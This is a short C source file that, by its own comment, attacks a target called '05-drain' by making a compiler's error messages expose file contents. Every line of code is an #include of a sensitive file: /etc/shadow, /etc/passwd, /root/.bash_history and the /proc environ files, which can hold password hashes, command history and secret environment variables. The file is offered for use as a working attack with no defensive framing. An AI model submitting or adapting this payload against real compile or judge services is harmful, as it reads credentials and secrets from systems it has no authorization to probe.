/* against 05-drain: lets the compiler's errors show /etc/shadow and others. */
#include "/root/.bash_history"
#include "/etc/passwd"
#include "/etc/shadow"
#include "/proc/1/environ"
#include "/proc/self/environ"
int main(void)
{
    return 0;
}
